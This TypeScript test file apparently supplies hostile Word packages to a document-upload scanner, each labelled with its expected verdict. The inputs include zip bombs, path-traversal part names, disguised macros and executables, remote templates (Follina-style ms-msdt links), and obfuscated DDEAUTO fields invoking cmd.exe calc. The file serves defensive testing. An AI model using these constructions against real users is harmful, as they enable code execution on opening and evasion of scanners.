import { archive, docx, related, wordDocument, wordPackage, xml } from "../resumes.ts";
import { pdf } from "../pdf-file.ts";
import type { HostileDocument } from "./hostile-document.ts";

const mebibyte = 1024 * 1024;
const zeros = new Uint8Array(40 * mebibyte);
const bomb = (size: number) => ({ name: "word/media/image1.png", data: new Uint8Array(size) });
const picture = (data: string, name = "word/media/image1.png") => docx([{ name, data: Buffer.from(data, "latin1") }]);
const relation = (type: string, target: string, mode?: string) =>
  wordPackage({ relations: related(type, target, mode) });
/** A part that the main one is bound to, under a name that says nothing. */
const bound = (type: string, contentType: string, data = "x") =>
  wordPackage({
    relations: related(type, "media/image1.png", "Internal"),
    types: `<Override PartName="/word/media/image1.png" ContentType="${contentType}"/>`,
    parts: [{ name: "word/media/image1.png", data }],
  });
const run = (inner: string) => `<w:r>${inner}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const field = (...inner: string[]) =>
  wordPackage({ body: `<w:p>${mark("begin")}${inner.join("")}${mark("end")}</w:p>` });
const mainPart = (data: Uint8Array | string) =>
  archive([
    ...["[Content_Types].xml", "_rels/.rels"].map((name) => ({ name, data: partOf(name) })),
    { name: "word/document.xml", data },
  ]);
const typesXml = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
const partOf = (name: string) =>
  xml(
    name.startsWith("[")
      ? typesXml
      : `<Relationships>${related("officeDocument", "word/document.xml", "Internal")}</Relationships>`,
  );
const utf16 = (text: string) => Buffer.from(text, "utf16le");
const dde = `<w:p><w:fldSimple w:instr="DDE c:\\\\cmd.exe calc"/></w:p>`;

/** Archives that are no document, lie about themselves or burst (Fifield, "A better zip bomb"; Info-ZIP's tests). */
const archives: readonly HostileDocument[] = [
  ["an archive's first bytes alone", Buffer.from("PK\x03\x04\x14\x00\x00\x00", "latin1"), "damaged"],
  ["a Word package cut in the middle", picture("ab".repeat(2500)).subarray(0, 400), "damaged"],
  [
    "a Word package with something behind it",
    Buffer.concat([docx(), Buffer.from("<script>alert(1)</script>")]),
    "combined",
  ],
  [
    "a Word package with a comment",
    archive(
      [
        { name: "[Content_Types].xml", data: "x" },
        { name: "word/document.xml", data: "x" },
      ],
      "hello",
    ),
    "damaged",
  ],
  [
    "a Word package with a PDF in front of its parts",
    archive([
      { name: "%PDF-1.7", data: pdf() },
      { name: "word/document.xml", data: "x" },
    ]),
    "combined",
  ],
  [
    "an archive that holds no document",
    archive([
      { name: "[Content_Types].xml", data: "x" },
      { name: "xl/workbook.xml", data: "x" },
    ]),
    "damaged",
  ],
  ["an archive of nothing", archive([]), "unknown"],
  [
    "a Java archive",
    archive([
      { name: "META-INF/MANIFEST.MF", data: "x" },
      { name: "A.class", data: "x" },
    ]),
    "archive",
  ],
  [
    "a Word package with an encrypted part",
    docx([{ name: "word/media/a.png", data: "x", claims: { encrypted: true } }]),
    "password",
  ],
  ["a Word package with a wrong checksum", docx([{ name: "word/media/a.png", data: "x", claims: { crc: 1 } }]), []],
  ["a Word package that climbs out", docx([{ name: "../../etc/cron.d/x.png", data: "x" }]), "damaged"],
  ["a Word package with an absolute name", docx([{ name: "/etc/passwd.png", data: "x" }]), "damaged"],
  ["a Word package with a name twice", docx([{ name: "word/document.xml", data: "<other/>" }]), "ambiguous"],
  [
    "a bomb of many parts",
    docx(
      Array.from({ length: 12 }, (_, index) => ({
        name: `word/media/${index}.png`,
        data: zeros.subarray(0, 10 * mebibyte),
      })),
    ),
    "tooComplex",
  ],
  ["a bomb that says it is small", docx([{ ...bomb(8 * mebibyte), claims: { size: 10 } }]), "damaged"],
  [
    "a part that says it is huge",
    docx([{ name: "word/media/a.png", data: "x", claims: { size: 0xfffffff0 } }]),
    "damaged",
  ],
  [
    "a part with two names",
    docx([{ name: "word/media/a.png", data: "x", localName: "word/media/a.exe" }]),
    "ambiguous",
  ],
  [
    "an archive of 3,000 parts",
    docx(Array.from({ length: 3000 }, (_, index) => ({ name: `word/p${index}.png`, data: "" }))),
    "tooComplex",
  ],
];

/** Macros, controls and other programs, independent of the names of their parts (ISO/IEC 29500-2; [MS-OFFMACRO2]; oletools). */
const programs: readonly HostileDocument[] = [
  ["a Word package with macros", docx([{ name: "word/vbaProject.bin", data: "x" }]), "macros"],
  ["a Word package with macros spelt oddly", docx([{ name: "word/VBAproject.BIN", data: "x" }]), "macros"],
  ["macros that are called a picture", bound("vbaProject", "application/vnd.ms-office.vbaProject"), "macros"],
  ["macros by their relation alone", bound("vbaProject", "image/png"), "macros"],
  ["macros by their content type alone", bound("image", "application/vnd.ms-office.vbaProject"), "macros"],
  [
    "a document with macros by its main type",
    wordPackage({ mainType: "application/vnd.ms-word.document.macroEnabled.main+xml" }),
    "macros",
  ],
  ["a Word package with a control", docx([{ name: "word/activeX/activeX1.bin", data: "x" }]), ["control"]],
  [
    "a control that is called a picture",
    bound("control", "application/vnd.ms-office.activeX+xml", "<ax/>"),
    ["control"],
  ],
  [
    "a Word package with keys of its own",
    bound("keyMapCustomizations", "application/vnd.ms-word.keyMapCustomizations+xml", "<x/>"),
    ["control"],
  ],
  [
    "a Word package with an add-in",
    bound("webextension", "application/vnd.ms-office.webextension+xml", "<x/>"),
    ["control"],
  ],
  ["a Word package with a ribbon", bound("extensibility", "application/xml", "<customUI/>"), ["control"]],
  [
    "a Word package with an embedded object",
    docx([{ name: "word/embeddings/oleObject1.bin", data: "x" }]),
    ["embeddedObject"],
  ],
  ["an object that is called a picture", bound("oleObject", "image/png", "x"), ["embeddedObject"]],
  ["an object in a picture's place", picture("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), ["embeddedObject"]],
  [
    "a table for calculation in it",
    bound("package", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ["attachment"],
  ],
  ["a Windows program in a picture's place", picture("MZ\x90\x00\x03"), "program"],
  ["a Linux program in a picture's place", picture("\x7fELF\x02"), "program"],
  ["a Mac program in a picture's place", picture("\xcf\xfa\xed\xfe"), "program"],
  ["a shell script in a picture's place", picture("#!/bin/sh\n"), "program"],
  ["a shortcut in a picture's place", picture("L\0\0\0\x01\x14\x02\0"), "program"],
  ["an archive in a picture's place", picture("PK\x03\x04"), []],
  ["rich text in a picture's place", picture("{\\rtf1}"), []],
  ["a PDF in a picture's place", picture("%PDF-1.7"), []],
  ["a web page in a picture's place", picture("<html><script>alert(1)</script></html>"), ["script"]],
  [
    "a drawing with a script in a package",
    picture('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ["script"],
  ],
  ["a part of a kind that documents have not", docx([{ name: "word/a.exe", data: "x" }]), "program"],
];

/** Resources that opening the file fetches from other hosts (CVE-2017-0199, CVE-2021-40444, CVE-2022-30190 "Follina"). */
const elsewhere: readonly HostileDocument[] = [
  ["a template from the web", relation("attachedTemplate", "http://host/a.dotm"), "runsOnOpen"],
  ["a template from a share", relation("attachedTemplate", "\\\\host\\share\\a.dotm"), "runsOnOpen"],
  ["a template from a share by its address", relation("attachedTemplate", "file://host/share/a.dotm"), "runsOnOpen"],
  ["a template in escapes", relation("attachedTemplate", "%66ile:%2f%2fhost/a.dotm"), "runsOnOpen"],
  ["a template in XML's escapes", relation("attachedTemplate", "&#104;ttp://host/a.dotm"), "runsOnOpen"],
  ["a template that says it is within", relation("attachedTemplate", "http://host/a.dotm", "Internal"), "runsOnOpen"],
  [
    "a template under another prefix",
    wordPackage({
      relations:
        '<r:Relationship xmlns:r="x" Id="r1" Type="x/attachedTemplate" Target="http://host/a" TargetMode="External"/>',
    }),
    "runsOnOpen",
  ],
  ["an object from the web", relation("oleObject", "mhtml:http://host/a!x-usc:http://host/b"), "runsOnOpen"],
  ["a picture from the web", relation("image", "http://host/a.png"), ["externalContent"]],
  ["a frame from the web", relation("frame", "http://host/a.html"), "runsOnOpen"],
  ["a part of the text from the web", relation("subDocument", "http://host/a.docx"), "runsOnOpen"],
  ["addresses from a file", relation("mailMergeSource", "file:///C:/a.xlsx"), ["externalContent"]],
  ["a text of another kind within", bound("aFChunk", "text/html", "<p/>"), ["attachment"]],
  ["rich text within", bound("aFChunk", "application/rtf", "x"), ["attachment"]],
  ["a link to a share", relation("hyperlink", "\\\\host\\share"), ["externalLink"]],
  ["a link to a file", relation("hyperlink", "file:///c:/windows/system32/calc.exe"), ["externalLink"]],
  ["a link that is a script", relation("hyperlink", "javascript:alert(1)"), ["externalLink"]],
  ["a link to a protocol's program", relation("hyperlink", "ms-msdt:/id PCWDiagnostic"), ["externalLink"]],
  [
    "a picture of the old kind from the web",
    wordPackage({ body: '<w:pict xmlns:v="v"><v:imagedata src="http://host/a.png"/></w:pict>' }),
    ["externalContent"],
  ],
];

/** Fields that start or fetch something, plain and hidden (SensePost 2017, "Macro-less code exec"; [MS-OI29500]). */
const fields: readonly HostileDocument[] = [
  ["a DDE field", wordPackage({ body: dde }), "runsOnOpen"],
  ["a DDEAUTO field", field(instruction(' DDEAUTO c:\\\\cmd.exe "/k calc" ')), "runsOnOpen"],
  ["a DDEAUTO field in small letters", field(instruction(' ddeauto c:\\\\cmd.exe "/k calc" ')), "runsOnOpen"],
  ["a DDEAUTO field in pieces", field(..."DDEAUTO calc".split("").map(instruction)), "runsOnOpen"],
  ["a DDEAUTO field in XML's escapes", field(instruction("&#68;DEAUTO calc")), "runsOnOpen"],
  [
    "a DDEAUTO field whose end is missing",
    wordPackage({ body: mark("begin") + instruction("DDEAUTO calc") }),
    "runsOnOpen",
  ],
  ["a DDEAUTO field in plain text's place", field(run("<w:t>DDEAUTO calc</w:t>")), "runsOnOpen"],
  [
    "a DDEAUTO field by its characters' numbers",
    field(mark("begin"), instruction("QUOTE 68 68 69 65 85 84 79"), mark("end"), instruction(" calc")),
    "runsOnOpen",
  ],
  [
    "a DDE field whose kind is half a field",
    field(instruction("DD"), mark("begin"), instruction("QUOTE 69"), mark("end"), instruction(" calc")),
    "runsOnOpen",
  ],
  ["a DDE field in a header", docx([{ name: "word/header1.xml", data: wordDocument(dde) }]), "runsOnOpen"],
  [
    "a DDE field in text of sixteen bits",
    mainPart(Buffer.concat([Buffer.from("fffe", "hex"), utf16(wordDocument(dde).replace("UTF-8", "UTF-16"))])),
    "runsOnOpen",
  ],
  ["text of sixteen bits without its mark", mainPart(utf16(wordDocument(dde).replace("UTF-8", "UTF-16"))), "ambiguous"],
  ["text of an odd encoding", mainPart(wordDocument().replace("UTF-8", "UTF-7")), "ambiguous"],
  ["text that is no XML", mainPart("x"), "damaged"],
  [
    "text with a document type",
    mainPart(wordDocument().replace("<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document')),
    [],
  ],
  ["a field that fetches a text", field(instruction(' INCLUDETEXT "http://host/a.docx" ')), "runsOnOpen"],
  [
    "a field that fetches a picture",
    field(instruction(' INCLUDEPICTURE "http://host/a.png" \\d ')),
    ["externalContent"],
  ],
  [
    "a field that fetches a picture from a share",
    field(instruction(' INCLUDEPICTURE "\\\\\\\\host\\\\a.png" ')),
    "runsOnOpen",
  ],
  ["a field that binds a file", field(instruction(' LINK Excel.Sheet.8 "\\\\\\\\host\\\\a.xls" ')), "runsOnOpen"],
  ["a field that links to a file", field(instruction(' HYPERLINK "file:///c:/windows/calc.exe" ')), ["externalLink"]],
  ["letters to many", wordPackage({ body: "<w:mailMerge/>" }), ["externalContent"]],
];

export const hostileWord: readonly HostileDocument[] = [...archives, ...programs, ...elsewhere, ...fields];
